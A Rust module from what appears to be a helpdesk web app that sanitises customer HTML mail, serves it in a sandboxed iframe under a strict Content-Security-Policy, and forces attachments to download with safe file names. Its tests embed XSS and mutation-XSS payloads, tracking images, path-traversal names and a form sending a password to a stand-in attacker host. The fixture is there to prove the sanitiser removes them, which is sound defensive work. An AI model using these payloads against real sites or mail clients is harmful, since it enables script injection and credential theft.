//! A customer's HTML mail, shown safely: sanitised with ammonia (no script,
//! event handlers, forms, frames, SVG, styles, `data-*`/`hx-*` attributes,
//! `javascript:` links, meta refresh), served from its own route with a
//! `sandbox` Content-Security-Policy that lets nothing run and loads only
//! the message's own images (`cid:` parts that are PNG, JPEG, GIF or WebP)
//! and, when the agent asks, `https:` images; shown in an `<iframe sandbox>`.
//! The text view stays the default. Attachments are only ever downloads.

use axum::extract::{Path, Query, State};
use axum::http::{header, HeaderValue};
use axum::response::{IntoResponse, Response};

use super::auth::PageCaller;
use super::pages::PageError;
use super::AppState;
use crate::agents::Action;

/// The frame's policy: a sandbox (no script, no forms, no same origin),
/// nothing fetched but the message's own images, inline styles only.
pub const FRAME_POLICY: &str =
    "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data:; frame-ancestors 'self'; form-action 'none'; base-uri 'none'";

/// The same when the agent asked for remote images: `https:` images load too.
pub const FRAME_POLICY_REMOTE_IMAGES: &str =
    "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data: https:; frame-ancestors 'self'; form-action 'none'; base-uri 'none'";

/// The image types an inline part may be served as; anything else is not shown.
pub const IMAGE_TYPES: [&str; 4] = ["image/png", "image/jpeg", "image/gif", "image/webp"];

/// The mail's HTML with everything that could run, load or submit removed.
/// Links keep http, https and mailto targets and open nothing by
/// themselves. An image's `cid:X` source becomes `{cid_base}X` (the route
/// serving that part of the message); with `remote_images`, `https:`
/// sources stay; every other source is removed.
pub fn sanitise(html: &str, cid_base: Option<&str>, remote_images: bool) -> String {
    let cid_base = cid_base.map(str::to_string);
    ammonia::Builder::default()
        // `cid:` passes the scheme check only to be rewritten (images) or
        // removed (anything else) below.
        .url_schemes(["http", "https", "mailto", "cid"].into_iter().collect())
        .link_rel(Some("noopener noreferrer nofollow"))
        .attribute_filter(
            move |element, attribute, value| match (element, attribute) {
                ("img", "src") => {
                    let v = value.trim();
                    let scheme =
                        |s: &str| v.len() > s.len() && v[..s.len()].eq_ignore_ascii_case(s);
                    if scheme("cid:") {
                        cid_base
                            .as_ref()
                            .map(|base| format!("{base}{}", encode(&v[4..])).into())
                    } else if remote_images && scheme("https://") {
                        Some(v.to_string().into())
                    } else {
                        None
                    }
                }
                ("img", "srcset") => None,
                _ if value
                    .trim_start()
                    .get(..4)
                    .is_some_and(|p| p.eq_ignore_ascii_case("cid:")) =>
                {
                    None
                }
                _ => Some(value.into()),
            },
        )
        .clean(html)
        .to_string()
}

/// Percent-encodes all but letters, digits, `.`, `-` and `_`.
fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'.' | b'-' | b'_' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// Larger inline images are not written into the frame.
const INLINE_IMAGE_MAX: usize = 5 * 1024 * 1024;

/// The frame route's query: `images=remote` keeps `https:` images.
#[derive(Debug, Default, serde::Deserialize)]
pub struct FrameQuery {
    #[serde(default)]
    images: String,
}

/// `GET /tickets/{number}/messages/{id}/html`.
pub async fn message_html(
    State(state): State<AppState>,
    PageCaller(caller): PageCaller,
    Path((number, id)): Path<(String, i64)>,
    Query(q): Query<FrameQuery>,
) -> Result<Response, PageError> {
    caller.require(Action::ReadTickets)?;
    let html = state.store.message_html(&number, id).await?;
    let remote = q.images == "remote";
    let cid_base = format!("/tickets/{}/messages/{id}/cid/", encode(&number));
    let mut body = sanitise(&html, Some(&cid_base), remote);
    // The frame is sandboxed (an opaque origin): its own requests carry no
    // session cookie, so the message's images go in as data: URLs.
    if body.contains(&cid_base) {
        for (cid, content_type, data) in state.store.inline_parts(&number, id).await? {
            let content_type = content_type.trim().to_ascii_lowercase();
            let Some(image) = IMAGE_TYPES.into_iter().find(|t| *t == content_type) else {
                continue;
            };
            if data.len() > INLINE_IMAGE_MAX {
                continue;
            }
            let needle = format!("src=\"{cid_base}{}\"", encode(&cid));
            if body.contains(&needle) {
                use base64::Engine as _;
                let inline = format!(
                    "src=\"data:{image};base64,{}\"",
                    base64::engine::general_purpose::STANDARD.encode(&data)
                );
                body = body.replace(&needle, &inline);
            }
        }
    }
    let page = format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><meta name=\"referrer\" content=\"no-referrer\"><style>body{{font-family:system-ui,sans-serif;font-size:14px;margin:8px;color:#1d2430}}img{{max-width:100%}}</style></head><body>{body}</body></html>"
    );
    let mut res = page.into_response();
    let h = res.headers_mut();
    h.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/html; charset=utf-8"),
    );
    h.insert(
        header::CONTENT_SECURITY_POLICY,
        HeaderValue::from_static(if remote {
            FRAME_POLICY_REMOTE_IMAGES
        } else {
            FRAME_POLICY
        }),
    );
    h.insert(
        header::X_FRAME_OPTIONS,
        HeaderValue::from_static("SAMEORIGIN"),
    );
    h.insert(
        header::REFERRER_POLICY,
        HeaderValue::from_static("no-referrer"),
    );
    Ok(res)
}

/// `GET /tickets/{number}/messages/{id}/cid/{content_id}`: an inline image
/// of that message, only if it is a PNG, JPEG, GIF or WebP image (as that
/// type, never sniffed); anything else is not found.
pub async fn inline_image(
    State(state): State<AppState>,
    PageCaller(caller): PageCaller,
    Path((number, id, content_id)): Path<(String, i64, String)>,
) -> Result<Response, PageError> {
    caller.require(Action::ReadTickets)?;
    let (content_type, data) = state.store.inline_part(&number, id, &content_id).await?;
    let content_type = content_type.trim().to_ascii_lowercase();
    let Some(image) = IMAGE_TYPES.into_iter().find(|t| *t == content_type) else {
        return Err(crate::store::StoreError::NotFound(format!("image {content_id}")).into());
    };
    let mut res = data.into_response();
    let h = res.headers_mut();
    h.insert(header::CONTENT_TYPE, HeaderValue::from_static(image));
    h.insert(
        header::CONTENT_SECURITY_POLICY,
        HeaderValue::from_static("sandbox; default-src 'none'"),
    );
    h.insert(
        header::X_CONTENT_TYPE_OPTIONS,
        HeaderValue::from_static("nosniff"),
    );
    h.insert(
        header::CACHE_CONTROL,
        HeaderValue::from_static("private, max-age=300"),
    );
    Ok(res)
}

/// An attachment's name as a download's file name: no path, no quotes,
/// no control characters; ASCII only (the full name goes in `filename*`).
pub fn download_name(name: &str) -> String {
    let base = name.rsplit(['/', '\\']).next().unwrap_or("");
    let ascii: String = base
        .chars()
        .map(|c| {
            if c.is_ascii_graphic() && c != '"' && c != ';' || c == ' ' {
                c
            } else {
                '_'
            }
        })
        .collect();
    let ascii = ascii.trim().trim_start_matches('.').to_string();
    if ascii.is_empty() {
        "attachment".into()
    } else {
        ascii
    }
}

/// `GET /tickets/{number}/attachments/{id}`: always a download of opaque
/// bytes, never shown by the browser.
pub async fn attachment(
    State(state): State<AppState>,
    PageCaller(caller): PageCaller,
    Path((number, id)): Path<(String, i64)>,
) -> Result<Response, PageError> {
    caller.require(Action::ReadTickets)?;
    let (name, data) = state.store.attachment(&number, id).await?;
    let encoded: String = name
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'.' | b'-' | b'_' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect();
    let disposition = format!(
        "attachment; filename=\"{}\"; filename*=UTF-8''{encoded}",
        download_name(&name)
    );
    let mut res = data.into_response();
    let h = res.headers_mut();
    h.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/octet-stream"),
    );
    if let Ok(v) = HeaderValue::from_str(&disposition) {
        h.insert(header::CONTENT_DISPOSITION, v);
    }
    h.insert(
        header::CONTENT_SECURITY_POLICY,
        HeaderValue::from_static("sandbox; default-src 'none'"),
    );
    Ok(res)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn download_names_carry_no_path_or_header_tricks() {
        assert_eq!(download_name("rapport.pdf"), "rapport.pdf");
        assert_eq!(download_name("../../etc/passwd"), "passwd");
        assert_eq!(download_name("C:\\x\\evil.exe"), "evil.exe");
        assert_eq!(download_name("a\"; b.html"), "a__ b.html");
        assert_eq!(download_name("verslag é.docx"), "verslag _.docx");
        assert_eq!(download_name(""), "attachment");
        assert_eq!(download_name(".htaccess"), "htaccess");
    }

    /// Mail is the attacker's input: nothing of this may survive.
    pub const HOSTILE: &str = r#"<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><style>body{background:url(https://evil.example/bg.png)}</style>
<script>window.__pwned = 1; document.title = "pwned";</script></head>
<body onload="window.__pwned=2">
<p>Dag servicedesk, <b>dringend</b>: zie <a href="https://example.be/faq">de FAQ</a>.</p>
<img src="https://evil.example/track.gif" onerror="window.__pwned=3" alt="logo">
<a href="javascript:window.__pwned=4">klik</a>
<a href="JaVaScRiPt&#58;alert(1)">klik 2</a>
<form action="https://evil.example/steal"><input name="pw"><button>Send</button></form>
<svg onload="window.__pwned=5"><script>window.__pwned=6</script></svg>
<div style="background:url(https://evil.example/x.png)" data-x="1" hx-get="/api/tickets" hx-trigger="load">Tabel</div>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
</body></html>"#;

    #[test]
    fn hostile_html_keeps_only_harmless_text_and_links() {
        let clean = sanitise(HOSTILE, Some("/x/"), false);
        let lower = clean.to_ascii_lowercase();
        for bad in [
            "<script",
            "onload",
            "onerror",
            "javascript",
            "<form",
            "<input",
            "<svg",
            "url(",
            "hx-",
            "data-",
            "<meta",
            "http-equiv",
            "<base",
            "<style",
            "<iframe",
            "<object",
            "evil.example",
            "style=",
            "__pwned",
        ] {
            assert!(!lower.contains(bad), "{bad} survived: {clean}");
        }
        assert!(clean.contains("<b>dringend</b>"), "{clean}");
        assert!(
            clean.contains(r#"href="https://example.be/faq""#),
            "{clean}"
        );
        assert!(clean.contains("noopener"), "{clean}");
        assert!(clean.contains("Tabel"));
    }

    #[test]
    fn the_frame_lets_nothing_run_or_load() {
        assert!(FRAME_POLICY.starts_with("sandbox;"));
        assert!(FRAME_POLICY.contains("default-src 'none'"));
        assert!(!FRAME_POLICY.contains("script-src"));
        assert!(!FRAME_POLICY.contains("https:"));
        assert!(FRAME_POLICY_REMOTE_IMAGES.contains("img-src 'self' data: https:"));
    }

    #[test]
    fn images_are_the_messages_own_or_asked_for() {
        let html = r#"<a href="cid:x@y">part</a><img src="cid:image001.png@01DA"><img src="https://cdn.example/logo.png" srcset="https://cdn.example/a.png 2x"><img src="http://plain.example/x.gif"><img src="data:image/png;base64,AAAA"><img src="/api/tickets">"#;
        let clean = sanitise(html, Some("/tickets/CS-000001/messages/3/cid/"), false);
        assert!(
            clean.contains(r#"src="/tickets/CS-000001/messages/3/cid/image001.png%4001DA""#),
            "{clean}"
        );
        for gone in ["cdn.example", "plain.example", "data:", "/api/"] {
            assert!(!clean.contains(gone), "{gone}: {clean}");
        }
        let remote = sanitise(html, None, true);
        assert!(
            remote.contains(r#"src="https://cdn.example/logo.png""#),
            "{remote}"
        );
        for gone in ["cid:", "srcset", "plain.example", "data:", "/api/"] {
            assert!(!remote.contains(gone), "{gone}: {remote}");
        }
    }
}
